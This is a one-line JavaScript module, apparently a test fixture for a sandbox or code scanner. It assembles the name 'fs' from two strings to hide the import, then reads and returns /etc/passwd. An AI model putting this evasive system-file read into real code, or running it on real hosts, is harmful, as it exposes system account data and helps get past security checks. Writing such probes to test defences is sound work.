export default function () { const name = 'f' + 's'; return require(name).readFileSync('/etc/passwd', 'utf8'); }
